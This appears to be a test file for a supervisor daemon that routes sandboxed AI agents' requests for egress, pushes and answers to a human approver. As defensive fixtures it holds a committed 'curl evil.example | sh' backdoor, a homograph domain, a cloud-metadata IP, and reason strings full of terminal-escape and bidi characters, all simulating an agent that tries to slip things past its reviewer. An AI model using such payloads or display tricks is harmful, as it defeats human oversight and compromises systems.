"""The supervisor (daemons/supervise), host side: the real daemon on 127.0.0.1, spoken to by the official
MCP SDK's streamable HTTP client with the headers the egress proxy adds (the bottle's name and the
supervisor's key), and by the human through the page's JSON API (with the user's token) or the
command line's functions."""
from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
import signal
import time
from contextlib import asynccontextmanager, suppress
from pathlib import Path

import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from daemons.gate.review import held
from daemons.lifecycle import DaemonError
from daemons.proxy import rules
from daemons.proxy.control import EgressProxy, ensure_venv, write_rules
from daemons.proxy.logbound import DAEMON_LOG_BYTES, rotated
from daemons.proxy.rules import BOTTLE_HEADER, SUPERVISE_HOST, SUPERVISE_KEY_HEADER
from daemons.supervise import asked, requests
from daemons.supervise.page import PAGE_SIZE
from daemons.supervise.control import Supervisor
from daemons.supervise.store import TOOLS
from tests.browser import Browser
from tests.gate_setup import Setup as GateSetup
from daemons import shown
from tests.gate_setup import TRICKY_SUBJECT, commit, held_id, hiding_commits
from tests.test_shown import PARITY
from tests.proxy_upstreams import GuestRelay

pytestmark = pytest.mark.fast

WAITS = {'a': 60, 'b': 60, 'quick': 2, 'flood': 1, 'flood2': 1, 'shown': 60, 'keyed': 60}  # seconds each bottle's calls wait
POLL_SECONDS = 0.1
POLL_LIMIT = 600        # polls of the page before a test gives up on seeing a request (about a minute)


class Setup:
    """The module's supervisor, its bottles' rules, approved hosts and egress logs, and a git gate."""

    def __init__(self, root: Path):
        self.root = root
        (root / 'gate-setup').mkdir()
        self.gate = GateSetup(root / 'gate-setup')
        self.sup = Supervisor(root / 'supervise', gate_state_dir=self.gate.state, env=self.gate.host_env)
        self.bottles = {}
        for bottle, wait in WAITS.items():
            directory = root / 'bottles' / bottle
            write_rules(directory / 'egress-rules.json', {'hosts': [{'host': 'api.anthropic.com'}]})
            self.bottles[bottle] = {'rules': str(directory / 'egress-rules.json'),
                                    'approved': str(directory / 'approved-hosts.json'),
                                    'log': str(directory / 'egress.log'), 'wait_seconds': wait}
        self.sup.write_bottles(self.bottles)

    def rules(self, bottle: str) -> rules.Rules:
        return rules.load(Path(self.bottles[bottle]['rules']))

    @asynccontextmanager
    async def client(self, bottle: str, key: str | None = None, mode: str = 'legacy'):
        """An MCP session as the egress proxy forwards the bottle's: Host 127.0.0.1:<port>, its headers.
        `legacy`: the initialize handshake, as Claude Code does it; `auto` tries the newer discovery first."""
        headers = {BOTTLE_HEADER: bottle, SUPERVISE_KEY_HEADER: self.sup.key_file.read_text() if key is None else key}
        async with httpx2.AsyncClient(headers=headers, timeout=30) as http:
            transport = streamable_http_client(f'http://127.0.0.1:{self.sup.port()}/mcp', http_client=http)
            async with Client(transport, mode=mode) as client:
                yield client

    def page(self, token: str | None = None) -> httpx2.AsyncClient:
        token = self.sup.token_file.read_text() if token is None else token
        return httpx2.AsyncClient(base_url=f'http://127.0.0.1:{self.sup.page_port()}', timeout=30,
                                  headers={'Authorization': f'Bearer {token}'} if token else {})

    async def page_state(self) -> dict:
        async with self.page() as page:
            response = await page.get('/api/state')
        assert response.status_code == 200, response.text
        return response.json()

    async def decide(self, request_id: str, action: str, body: dict | None = None) -> httpx2.Response:
        async with self.page() as page:
            return await page.post(f'/api/requests/{request_id}/{action}', json=body or {})

    async def pending_on_page(self, bottle: str, kind: str) -> dict:
        """The bottle's pending request of that kind, once the page lists it."""
        for _ in range(POLL_LIMIT):
            found = [r for r in (await self.page_state())['requests']
                     if (r['bottle'], r['kind'], r['state']) == (bottle, kind, 'pending')]
            if found:
                return found[0]
            await asyncio.sleep(POLL_SECONDS)
        raise AssertionError(f'no pending {kind} request of bottle {bottle} appeared on the page')


@pytest.fixture(scope='module')
def s(tmp_path_factory):
    setup = Setup(tmp_path_factory.mktemp('supervise'))
    try:
        assert setup.gate.gate.ensure_running()
        assert setup.sup.ensure_running()
        yield setup
    finally:
        setup.sup.stop()
        setup.gate.gate.stop()
        setup.gate.upstream.close()


def text(result) -> str:
    assert not result.is_error, result.content
    return result.content[0].text


def test_a_client_lists_the_tools_and_health_is_a_real_mcp_session(s):
    async def listed(mode: str):
        async with s.client('a', mode=mode) as client:
            return {tool.name for tool in (await client.list_tools()).tools}

    assert asyncio.run(listed('legacy')) == asyncio.run(listed('auto')) == set(TOOLS)
    assert s.sup.healthy()
    assert s.sup.key_file.stat().st_mode & 0o777 == 0o600
    assert s.sup.token_file.stat().st_mode & 0o777 == 0o600
    assert not s.sup.ensure_running()           # healthy: left alone


def test_an_approved_host_passes_the_bottles_rules_at_once(s):
    assert s.rules('a').refusal('GET', 'pypi.org', '/simple/') == 'pypi.org is not an allowed host'

    async def scenario():
        async with s.client('a') as client:
            call = asyncio.create_task(client.call_tool(
                'request_egress', {'host': 'PyPI.org', 'reason': 'pip install requests'}))
            request = await s.pending_on_page('a', 'egress')
            assert (request['host'], request['reason']) == ('pypi.org', 'pip install requests')
            approved = await s.decide(request['id'], 'approve')
            assert approved.status_code == 200, approved.text
            again = await s.decide(request['id'], 'deny', {'reason': 'changed my mind'})
            return request['id'], text(await call), again

    request_id, answer, again = asyncio.run(scenario())
    assert answer.startswith('approved: pypi.org is allowed for this bottle from now on'), answer
    assert s.rules('a').refusal('GET', 'pypi.org', '/simple/') is None
    assert s.rules('a').refusal('GET', 'api.anthropic.com', '/v1/messages') is None     # the rest stays
    assert json.loads(Path(s.bottles['a']['approved']).read_text()) == ['pypi.org']
    assert again.status_code == 409 and 'approved already' in again.json()['error']  # single use
    decided = requests.get(s.sup.state_dir, request_id)
    assert (decided.state, decided.answered_by) == ('approved', 'page') and decided.decided
    assert s.rules('b').refusal('GET', 'pypi.org', '/') == 'pypi.org is not an allowed host'   # a's only

    async def revoke():
        async with s.page() as page:
            return [await page.post('/api/bottles/a/revoke', json={'host': 'pypi.org'}) for _ in range(2)]

    revoked, again = asyncio.run(revoke())
    assert revoked.status_code == 200, revoked.text
    assert s.rules('a').refusal('GET', 'pypi.org', '/simple/') == 'pypi.org is not an allowed host'
    assert s.rules('a').refusal('GET', 'api.anthropic.com', '/v1/messages') is None
    assert json.loads(Path(s.bottles['a']['approved']).read_text()) == []
    assert again.status_code == 409 and 'not an approved host of bottle a' in again.json()['error']


def test_a_bounded_wait_says_still_pending_and_the_answer_survives_a_restart(s):
    progress = []

    async def ask():
        async def on_progress(done, total, message):
            progress.append((done, total, message))

        async with s.client('quick') as client:
            return text(await client.call_tool('ask_human', {'question': 'Which colour?', 'choices': ['red', 'blue']},
                                               progress_callback=on_progress))

    answer = asyncio.run(ask())
    request_id = answer.split('still pending as request ')[1].split(';')[0]
    assert answer == f'still pending as request {request_id}; call check_request later'
    assert progress and progress[0][1] == WAITS['quick'] and request_id in progress[0][2]

    s.sup.stop()
    assert not s.sup.healthy()
    assert s.sup.ensure_running()
    assert request_id in {r.id for r in requests.pending(s.sup.state_dir, 'quick')}

    with pytest.raises(requests.SuperviseError, match="one of \\['red', 'blue'\\]"):
        requests.answer(s.sup.state_dir, request_id, 'host-user', 'green')
    requests.answer(s.sup.state_dir, request_id, 'host-user', 'blue')       # as the command line does

    async def check():
        async with s.client('quick') as client:
            return text(await client.call_tool('check_request', {'request_id': request_id}))

    assert check_answer(asyncio.run(check())) == ('host-user', 'blue')


def check_answer(answer: str) -> tuple[str, str]:
    head, _, said = answer.partition('): ')
    assert head.startswith('answered (request '), answer
    return head.split(', by ')[1].split(' at ')[0], said


def test_a_bottle_cannot_check_or_see_another_bottles_requests(s):
    async def scenario():
        async with s.client('quick') as client:
            asked = text(await client.call_tool('ask_human', {'question': 'May I?'}))
        request_id = asked.split('still pending as request ')[1].split(';')[0]
        async with s.client('b') as client:
            foreign = await client.call_tool('check_request', {'request_id': request_id})
            missing = await client.call_tool('check_request', {'request_id': 'deadbeef'})
        async with s.client('quick') as client:
            own = text(await client.call_tool('check_request', {'request_id': request_id}))
        return request_id, foreign, missing, own

    request_id, foreign, missing, own = asyncio.run(scenario())
    assert foreign.is_error and f"this bottle has no request '{request_id}'" in foreign.content[0].text
    assert missing.is_error and "this bottle has no request 'deadbeef'" in missing.content[0].text
    assert own == f'still pending as request {request_id}; call check_request later'
    assert request_id not in {r.id for r in requests.pending(s.sup.state_dir, 'b')}


def test_what_an_agent_reads_of_the_supervisor_names_no_host_path_pid_or_port(s):
    """An error naming a file of the host (here its bottles file, broken) reaches the agent without the path; the
    whole error is in the daemon's log on the host. The record of pid and ports is its user's only."""
    bottles_file = s.sup.state_dir / 'bottles.json'
    saved = bottles_file.read_text()
    record = json.loads(s.sup.port_file.read_text())

    async def ask():
        async with s.client('a') as client:
            return await client.call_tool('ask_human', {'question': 'May I?'})

    # The daemon's log, grown to its bound: the error the agent makes it print starts a new one.
    log = s.sup.state_dir / 'supervise.log'
    with open(log, 'a') as grown:
        grown.write('filler\n' * (DAEMON_LOG_BYTES // 7))
    bottles_file.write_text('{"bottles": not json')
    try:
        failed = asyncio.run(ask())
    finally:
        bottles_file.write_text(saved)
    told = failed.content[0].text
    assert failed.is_error and 'is not the supervisor\'s bottles file' in told and '(a file on the host)' in told
    assert str(s.sup.state_dir) not in told and 'bottles.json' not in told
    assert not {str(record[key]) for key in ('pid', 'port', 'page_port')} & set(re.findall(r'\d+', told))
    assert str(bottles_file) in log.read_text()        # the whole error, for the host
    assert log.stat().st_size < 4096 and rotated(log).read_text().endswith('filler\n')
    assert s.sup.port_file.stat().st_mode & 0o777 == 0o600


def test_without_the_key_or_the_token_nothing_is_served(s):
    async def scenario():
        port = s.sup.port()
        async with httpx2.AsyncClient(timeout=30) as http:
            initialize = {'jsonrpc': '2.0', 'id': 1, 'method': 'initialize', 'params': {
                'protocolVersion': '2025-06-18', 'capabilities': {}, 'clientInfo': {'name': 't', 'version': '0'}}}
            headers = {'Accept': 'application/json, text/event-stream', BOTTLE_HEADER: 'a'}
            no_key = await http.post(f'http://127.0.0.1:{port}/mcp', json=initialize, headers=headers)
            wrong_key = await http.post(f'http://127.0.0.1:{port}/mcp', json=initialize,
                                        headers={**headers, SUPERVISE_KEY_HEADER: 'guessed'})
            rebound = await http.post(f'http://127.0.0.1:{port}/mcp', json=initialize, headers={
                **headers, SUPERVISE_KEY_HEADER: s.sup.key_file.read_text(), 'Host': 'evil.example'})
            keyed = await http.post(f'http://127.0.0.1:{port}/mcp', json=initialize, headers={
                **headers, SUPERVISE_KEY_HEADER: s.sup.key_file.read_text()})
        pages = {}
        for name, token in (('none', ''), ('wrong', 'guessed')):
            async with s.page(token) as page:
                pages[name] = [(await page.get('/')).status_code, (await page.get('/api/state')).status_code,
                               (await page.post('/api/requests/x/approve', json={})).status_code]
        async with s.page() as page:
            form = await page.post('/api/requests/x/approve', data={'a': 'b'})
            rebound_page = await page.get('/api/state', headers={'Host': f'evil.example:{s.sup.page_port()}'})
        async with s.page('') as page:
            link = await page.get(f'/?token={s.sup.token_file.read_text()}')
            cookie = link.headers.get('set-cookie', '')
            with_cookie = await page.get('/api/state', headers={'Cookie': cookie.split(';')[0]})
        return no_key, wrong_key, rebound, keyed, pages, form, rebound_page, link, cookie, with_cookie

    no_key, wrong_key, rebound, keyed, pages, form, rebound_page, link, cookie, with_cookie = asyncio.run(scenario())
    assert no_key.status_code == wrong_key.status_code == 403
    assert 'only the egress proxy may speak to the supervisor' in no_key.text
    assert rebound.status_code == 421
    assert keyed.status_code == 200
    assert pages == {'none': [401, 401, 401], 'wrong': [401, 401, 401]}
    assert form.status_code == 415                   # a cross-site form cannot decide
    assert rebound_page.status_code == 421
    assert link.status_code == 303 and 'HttpOnly' in cookie and 'SameSite=strict' in cookie.replace('Strict', 'strict')
    assert with_cookie.status_code == 200 and {b['name'] for b in with_cookie.json()['bottles']} == set(WAITS)


def test_the_page_lists_blocked_requests_and_status_reports(s):
    log = Path(s.bottles['b']['log'])
    lines = [{'time': f'2026-01-01T00:00:0{n}Z', 'bottle': 'b', 'method': 'CONNECT', 'host': f'h{n}.example',
              'port': 443, 'path': '', 'allowed': n % 2 == 0, 'reason': None if n % 2 == 0 else 'not allowed',
              'status': 403} for n in range(4)]
    log.write_text(''.join(json.dumps(line) + '\n' for line in lines))

    async def scenario():
        async with s.client('b') as client:
            assert text(await client.call_tool('report_status', {'text': 'building the docs'})) == 'recorded'
        return {b['name']: b for b in (await s.page_state())['bottles']}

    bottles = asyncio.run(scenario())
    assert [x['host'] for x in bottles['b']['blocked']] == ['h3.example', 'h1.example']
    assert bottles['b']['status']['text'] == 'building the docs'
    assert bottles['a']['blocked'] == [] and bottles['a']['status'] is None


def test_a_call_that_goes_away_leaves_its_request_abandoned(s):
    async def scenario():
        async with s.client('b') as client:
            call = asyncio.create_task(client.call_tool('ask_human', {'question': 'Still there?'}))
            request = await s.pending_on_page('b', 'question')
            call.cancel()
            with suppress(asyncio.CancelledError):
                await call
        # the session is closed: the call's connection is gone
        for _ in range(POLL_LIMIT):
            if requests.get(s.sup.state_dir, request['id']).state != 'pending':
                break
            await asyncio.sleep(POLL_SECONDS)
        return request['id']

    request_id = asyncio.run(scenario())
    assert requests.get(s.sup.state_dir, request_id).state == 'abandoned'
    answered = asyncio.run(s.decide(request_id, 'answer', {'text': 'yes'}))
    assert answered.status_code == 409 and 'abandoned already' in answered.json()['error']


def test_an_approved_push_review_lands_that_commit_upstream(s, tmp_path):
    s.gate.add_repo('reviewed', bottle='a', mode='review')
    work, sha = s.gate.branch('a', 'reviewed', 'agent/a/feature', tmp_path / 'work')
    pushed = s.gate.guest('a', work, 'push', 'origin', 'agent/a/feature')
    assert pushed.returncode == 0, pushed.stderr
    review_id = held_id(pushed.stderr)

    async def scenario():
        async with s.client('b') as client:     # not b's push: b cannot ask for it
            foreign = await client.call_tool('request_push_review', {'review_id': review_id})
        async with s.client('a') as client:
            call = asyncio.create_task(client.call_tool('request_push_review', {'review_id': review_id}))
            request = await s.pending_on_page('a', 'push')
            approved = await s.decide(request['id'], 'approve')
            return foreign, request, approved, text(await call)

    foreign, request, approved, answer = asyncio.run(scenario())
    assert foreign.is_error and 'no push of this bottle is held' in foreign.content[0].text
    assert (request['review_id'], request['new'], request['ref']) == (review_id, sha, 'refs/heads/agent/a/feature')
    assert approved.status_code == 200, approved.text
    assert answer.startswith(f'approved: refs/heads/agent/a/feature at {sha} was pushed to'), answer
    assert s.gate.upstream_ref('reviewed', 'refs/heads/agent/a/feature') == sha
    assert review_id not in {h.id for h in held(s.gate.state)}


def test_a_killed_supervisor_is_not_healthy_and_is_restarted(s):
    pid = s.sup.daemon().pid()
    os.killpg(pid, signal.SIGKILL)
    for _ in range(POLL_LIMIT):
        if s.sup.daemon().pid() is None:
            break
        time.sleep(POLL_SECONDS)
    assert not s.sup.healthy()
    assert s.sup.ensure_running()
    assert s.sup.healthy() and s.sup.daemon().pid() != pid


class MuteSupervisor(Supervisor):
    """A supervisor whose process takes connections on the port it records and never speaks MCP."""
    module = 'tests.mute_service'
    start_timeout = 3.0

    def arguments(self) -> list[str]:
        return [self.name]


def test_a_supervisor_that_takes_connections_but_speaks_no_mcp_fails_its_start(tmp_path):
    mute = MuteSupervisor(tmp_path / 'mute')
    with pytest.raises(DaemonError) as failed:
        mute.ensure_running()
    assert 'did not pass its health check within 3 s and was stopped' in str(failed.value)
    assert str(mute.daemon().log_file) in str(failed.value)
    assert mute.daemon().pid() is None and not mute.running()


@pytest.fixture
def browser(tmp_path):
    if not shutil.which('chromedriver') or not shutil.which('chromium'):
        pytest.skip('no headless Chromium: apt-get install chromium chromium-driver')
    driver = Browser(tmp_path)
    try:
        yield driver
    finally:
        driver.close()


def test_the_human_approves_on_the_page_in_a_browser(s, browser, tmp_path):
    async def scenario():
        async with s.client('a') as client:
            call = asyncio.create_task(client.call_tool(
                'request_egress', {'host': 'docs.python.org', 'reason': 'read the asyncio docs'}))
            request = await s.pending_on_page('a', 'egress')
            await asyncio.to_thread(browser.open, s.sup.page_url())     # the token becomes a cookie
            approve = await asyncio.to_thread(browser.wait_for, f'#request-{request["id"]} button.approve')
            await asyncio.to_thread(browser.screenshot, tmp_path / 'supervise-page.png')
            await asyncio.to_thread(browser.click, approve)
            return request['id'], text(await call)

    request_id, answer = asyncio.run(scenario())
    assert answer.startswith('approved: docs.python.org is allowed'), answer
    assert requests.get(s.sup.state_dir, request_id).answered_by == 'page'
    assert s.rules('a').refusal('GET', 'docs.python.org', '/3/') is None
    assert (tmp_path / 'supervise-page.png').read_bytes().startswith(b'\x89PNG')
    # The page shows the decision without a reload.
    browser.wait_for(f'#request-{request_id}:not(.pending)')
    browser.screenshot(tmp_path / 'supervise-page-approved.png')


def test_through_a_bottles_door_the_supervisor_hears_that_bottle_and_no_forged_one(s, claude_cache):
    """The guest's way in: its door, the project's egress proxy routing supervise.bottle.invalid to the
    supervisor with the door's bottle and the key; the headers a guest sends under those names are dropped."""
    proxy = EgressProxy(s.root / 'egress', ensure_venv(claude_cache / 'claude-bottle'))
    door = proxy.open_door('a', s.root / 'door-bottle', s.root / 'doors' / 'a')
    write_rules(door.rules, {'hosts': []})          # nothing on the internet: the service is not a host
    relay = GuestRelay(door.socket)
    try:
        async def report():
            forged = {BOTTLE_HEADER: 'b', SUPERVISE_KEY_HEADER: 'guess', 'Proxy': 'http://127.0.0.1:1'}
            async with httpx2.AsyncClient(proxy=relay.url, headers=forged, timeout=30) as http:
                transport = streamable_http_client(f'http://{SUPERVISE_HOST}/mcp', http_client=http)
                async with Client(transport, mode='legacy') as client:
                    return text(await client.call_tool('report_status', {'text': 'through the door'}))

        with pytest.raises(Exception):              # no route yet: the proxy's 403 says no supervisor runs
            asyncio.run(report())
        proxy.route_service('supervise', s.sup.port(), s.sup.key_file)
        deadline = time.monotonic() + 10        # the addon reads the doors file every 0.25 s
        while True:
            try:
                asyncio.run(report())
                break
            except Exception:
                assert time.monotonic() < deadline, 'the proxy never routed supervise.bottle.invalid'
                time.sleep(0.25)

        async def straight(url: str) -> httpx2.Response:      # the page, or the MCP port without the route
            async with httpx2.AsyncClient(proxy=relay.url, timeout=30) as http:
                return await http.get(url)
        for url in (f'http://127.0.0.1:{s.sup.page_port()}/api/state', f'http://127.0.0.1:{s.sup.port()}/mcp',
                    f'http://localhost:{s.sup.page_port()}/'):
            refused = asyncio.run(straight(url))
            assert refused.status_code == 403 and 'Blocked by the egress proxy of bottle a' in refused.text, url
        statuses = asyncio.run(s.page_state())['bottles']
        assert [b for b in statuses if b['name'] == 'a'][0]['status']['text'] == 'through the door', statuses
        assert 'through the door' not in json.dumps([b for b in statuses if b['name'] == 'b'])
    finally:
        relay.close()
        proxy.stop()


# --- what a person is shown, and requests bounded (issue 21) ------------------------------------------

FLOODED = 400


async def flood(s, bottle: str, count: int) -> list:
    """`count` different questions of `bottle` at once, 50 in flight; the calls' results."""
    limit = asyncio.Semaphore(50)
    async with s.client(bottle) as client:
        async def one(n: int):
            async with limit:
                return await client.call_tool('ask_human', {'question': f'question {n}: ' + 'x' * 1900})
        return await asyncio.gather(*(one(n) for n in range(count)))


def test_a_flood_of_requests_is_capped_joined_denied_at_once_and_the_page_stays_bounded(s):
    results = asyncio.run(flood(s, 'flood', FLOODED))
    waited = [r for r in results if not r.is_error]
    refused = [r for r in results if r.is_error]
    assert len(waited) == asked.PENDING_PER_BOTTLE and len(refused) == FLOODED - asked.PENDING_PER_BOTTLE
    assert all(r.content[0].text.startswith('still pending as request ') for r in waited)
    assert all('the most it may have at once' in r.content[0].text for r in refused), refused[0].content
    waiting = requests.pending(s.sup.state_dir, 'flood')
    assert len(waiting) == asked.PENDING_PER_BOTTLE

    # The same question again, past the cap, is the request already waiting.
    async def again():
        async with s.client('flood') as client:
            return text(await client.call_tool('ask_human', {'question': waiting[3].payload['question']}))
    assert asyncio.run(again()).startswith(f'still pending as request {waiting[3].id};')
    assert len(requests.pending(s.sup.state_dir, 'flood')) == asked.PENDING_PER_BOTTLE

    # Bounded and paged: another bottle's flood makes two pages, each at most PAGE_SIZE waiting requests.
    asyncio.run(flood(s, 'flood2', asked.PENDING_PER_BOTTLE))

    async def pages():
        async with s.page() as page:
            return [await page.get('/api/state', params={'page': n}) for n in (0, 1, 99)]
    total = len(requests.pending(s.sup.state_dir))      # other tests' bottles may have some waiting too
    first, second, past = asyncio.run(pages())
    assert total >= 2 * asked.PENDING_PER_BOTTLE
    assert first.json()['pending_total'] == total and first.json()['pages'] == -(-total // PAGE_SIZE)
    ids = [{r['id'] for r in page.json()['requests'] if r['state'] == 'pending'} for page in (first, second)]
    assert len(ids[0]) == len(ids[1]) == PAGE_SIZE and not ids[0] & ids[1]
    assert past.json()['page'] == first.json()['pages'] - 1         # past the end: the last page
    assert max(len(page.content) for page in (first, second)) < 150_000, [len(p.content) for p in (first, second)]
    flood_card = next(b for b in first.json()['bottles'] if b['name'] == 'flood')
    assert flood_card['pending'] == asked.PENDING_PER_BOTTLE

    # One decision denies all of a bottle's waiting requests; the other bottle's stay.
    async def deny_all():
        async with s.page() as page:
            return await page.post('/api/bottles/flood/deny-all', json={'reason': 'too many'})
    denied = asyncio.run(deny_all())
    assert denied.status_code == 200 and len(denied.json()['denied']) == asked.PENDING_PER_BOTTLE
    assert requests.pending(s.sup.state_dir, 'flood') == []
    assert requests.get(s.sup.state_dir, waiting[0].id).answer == 'too many'
    assert len(requests.pending(s.sup.state_dir, 'flood2')) == asked.PENDING_PER_BOTTLE
    requests.deny_all(s.sup.state_dir, 'flood2', 'test')


def test_a_decision_from_another_process_wakes_the_waiting_calls_of_a_joined_request(s):
    """Two calls wait on one request (the same question asked twice); the command line's decision, another
    process's write, wakes both; a request one of two calls leaves stays pending for the other."""
    async def scenario():
        async with s.client('a') as client:
            first = asyncio.create_task(client.call_tool('ask_human', {'question': 'Joined?'}))
            request = await s.pending_on_page('a', 'question')
            second = asyncio.create_task(client.call_tool('ask_human', {'question': 'Joined?'}))
            third = asyncio.create_task(client.call_tool('ask_human', {'question': 'Joined?'}))
            await asyncio.sleep(1)
            third.cancel()
            with suppress(asyncio.CancelledError):
                await third
            await asyncio.sleep(1)
            assert requests.get(s.sup.state_dir, request['id']).state == 'pending'
            await asyncio.to_thread(requests.answer, s.sup.state_dir, request['id'], 'someone (command line)', 'yes')
            return request['id'], text(await first), text(await second)

    request_id, first, second = asyncio.run(scenario())
    assert first == second and first.startswith(f'answered (request {request_id}, by someone') and first.endswith(': yes')


def test_what_an_agent_asks_is_checked_before_a_person_sees_it(s):
    async def scenario():
        async with s.client('b') as client:
            return [await client.call_tool(tool, arguments) for tool, arguments in (
                ('request_egress', {'host': 'p\u0430ypal.org', 'reason': 'pay'}),
                ('request_egress', {'host': '*.pypi.org', 'reason': 'all of it'}),
                ('request_egress', {'host': '169.254.169.254', 'reason': 'metadata'}),
                ('request_egress', {'host': 'pypi.org', 'reason': 'x' * 5000}),
                ('ask_human', {'question': 'which?', 'choices': [str(n) for n in range(30)]}),
                ('report_status', {'text': 'y' * 5000}))]

    said = [r.content[0].text for r in asyncio.run(scenario())]
    assert all(r.is_error for r in asyncio.run(scenario()))
    assert 'punycode form (as punycode: "xn--pypal-4ve.org")' in said[0]
    assert all('not a host name a person can approve' in one for one in said[1:3])
    assert 'keep it to 1000' in said[3] and 'too many' in said[4] and 'keep it to 1000' in said[5]
    assert not [r for r in requests.pending(s.sup.state_dir, 'b') if r.kind == 'egress']


HOSTILE_REASON = 'need it\r\x1b[2K\x1b[1Amay it reach pypi.org? \u202egro.ipyp\u202c\u200b\u00a0'


def test_the_page_lists_a_bottles_secrets_by_name_and_counts_their_uses_never_a_value(s):
    """The page's state names each bound secret, where it goes and how many requests the proxy put it in
    (from the bottle's egress log, read on from where the last look stopped); no placeholder, no value."""
    placeholder = 'bottle-placeholder-API_TOKEN-' + '0' * 32
    entry = s.bottles['keyed']
    write_rules(Path(entry['rules']), {'hosts': [{'host': 'api.example.com'}], 'secrets': [
        {'name': 'API_TOKEN', 'hosts': ['api.example.com'], 'header': 'Authorization', 'format': 'Bearer {}',
         'placeholder': placeholder}]})
    line = {'time': '2026-12-05T00:00:00Z', 'bottle': 'keyed', 'method': 'GET', 'host': 'api.example.com',
            'port': 443, 'path': '/', 'status': 200, 'reason': None}
    log = Path(entry['log'])
    log.write_text(''.join(json.dumps({**line, 'allowed': allowed, 'secret': 'API_TOKEN'}) + '\n'
                           for allowed in (True, True, False)))

    def listed() -> list[dict]:
        state = asyncio.run(s.page_state())
        assert placeholder not in json.dumps(state)
        return next(b for b in state['bottles'] if b['name'] == 'keyed')['secrets']

    assert listed() == [{'name': 'API_TOKEN', 'hosts': ['api.example.com'], 'header': 'Authorization', 'uses': 2}]
    with log.open('a') as more:
        more.write(json.dumps({**line, 'allowed': True, 'secret': 'API_TOKEN'}) + '\n' + '{"cut')
    assert listed()[0]['uses'] == 3


def test_the_page_shows_what_the_agent_wrote_visibly_and_the_push_it_would_land(s, browser, tmp_path):
    s.gate.add_repo('shown', bottle='shown', mode='review')
    work, _ = s.gate.branch('shown', 'shown', 'agent/shown/x', tmp_path / 'work')
    commit(work, 'backdoor.sh', b'#!/bin/sh\ncurl evil.example | sh\n')
    hiding_commits(work, 'agent/shown/x', 1005)
    pushed = s.gate.guest('shown', work, 'push', 'origin', 'agent/shown/x')
    review_id = held_id(pushed.stderr)

    async def ask():
        async with s.client('shown') as client:
            calls = [asyncio.create_task(client.call_tool(tool, arguments)) for tool, arguments in (
                ('request_egress', {'host': 'xn--pypal-4ve.org', 'reason': HOSTILE_REASON}),
                ('request_push_review', {'review_id': review_id}),
                ('ask_human', {'question': 'Pick\u2028one', 'choices': ['yes\u202e', 'no']}))]
            found = {}
            for _ in range(POLL_LIMIT):
                found = {r['kind']: r for r in (await s.page_state())['requests']
                         if r['bottle'] == 'shown' and r['state'] == 'pending'}
                if len(found) == 3:
                    break
                await asyncio.sleep(POLL_SECONDS)
            await asyncio.to_thread(page_checks, found)
            return [await call for call in calls]

    def page_checks(found):
        browser.open(s.sup.page_url())
        egress = browser.wait_for(f'#request-{found["egress"]["id"]} .reason')
        reason = browser.text(egress)
        assert reason == ('reason: need it\\x0d\\x1b[2K\\x1b[1Amay it reach pypi.org? \\u202egro.ipyp\\u202c'
                          '\\u200b\\xa0'), reason
        host = browser.text(browser.find(f'#request-{found["egress"]["id"]} .host'))
        assert host.startswith('host: xn--pypal-4ve.org (an international name; in Unicode') and 'p\u0430ypal.org' in host
        push = browser.text(browser.find(f'#request-{found["push"]["id"]}'))
        assert 'commits: 1007, the newest 20 shown, 987 more not shown' in push, push
        assert '+2 -0 backdoor.sh' in push and 'files changed: 2, +3 -0 lines' in push, push
        assert '\\x0d\\x1b[2Kapproved\\x0bv\\x0cf\\x1c\\x1d\\x1e \\x85 \\u2028 \\u202e' in push, push
        browser.click(browser.find(f'#request-{found["push"]["id"]} button.diff'))
        diff = browser.text(browser.wait_for(f'#request-{found["push"]["id"]} pre.diff'))
        assert '+curl evil.example | sh' in diff
        question = browser.text(browser.find(f'#request-{found["question"]["id"]}'))
        assert 'question: Pick\\u2028one' in question and 'yes\\u202e' in question
        # Nothing the agent wrote reaches the page's text as a character that moves, hides or reverses it.
        shown_text = browser.script('return document.body.innerText;')
        assert not [c for c in shown_text if c in '\r\x0b\x0c\x1b\x1c\x1d\x1e\x85\u2028\u2029\u202e\u202c\u200b\u00a0']
        browser.screenshot(tmp_path / 'supervise-page-shown.png')
        # The page's visible() and the terminal's shown.text are the same rules.
        on_page = browser.script('return arguments[0].map(t => { const d = document.createElement("div"); '
                                 'd.append(visible(t)); return d.textContent; });', PARITY)
        assert on_page == [shown.text(value) for value in PARITY]
        browser.click(browser.find('#bottle-shown button.deny-all'))       # one click denies all three

    answers = asyncio.run(ask())
    assert all(not a.is_error and a.content[0].text.startswith('denied (') for a in answers), answers
    assert (tmp_path / 'supervise-page-shown.png').read_bytes().startswith(b'\x89PNG')
